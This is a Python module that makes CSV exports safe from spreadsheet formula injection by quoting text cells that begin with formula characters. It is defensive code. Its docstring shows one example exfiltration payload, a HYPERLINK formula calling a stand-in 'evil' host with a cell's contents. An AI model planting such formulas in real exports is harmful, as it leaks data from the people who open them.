"""CSV output that a spreadsheet will not execute (OWASP "CSV injection").

A cell whose text begins with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a formula
by Excel, LibreOffice and Google Sheets; a title such as `=HYPERLINK("http://evil/?"&A1)` in an
export would then run on the analyst's machine. Such text cells get a leading single quote, as
OWASP recommends. Numbers (int, float, Decimal) are written unchanged, so a negative change
stays a number; only strings are neutralised.
"""

from __future__ import annotations

import csv as _csv
from decimal import Decimal
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet should see it: numbers as they are, risky text quoted."""
    if value is None or isinstance(value, bool | int | float | Decimal):
        return value
    text = str(value)
    if text.startswith(FORMULA_PREFIXES):
        return "'" + text
    return text


class SafeWriter:
    """`csv.writer` whose rows pass through `safe_cell`: the one CSV writer the project uses."""

    def __init__(self, stream, **fmtparams):
        self._writer = _csv.writer(stream, **fmtparams)

    def writerow(self, row) -> Any:
        return self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream, **fmtparams) -> SafeWriter:
    """Drop-in for `csv.writer(stream, ...)` that neutralises formula cells."""
    return SafeWriter(stream, **fmtparams)
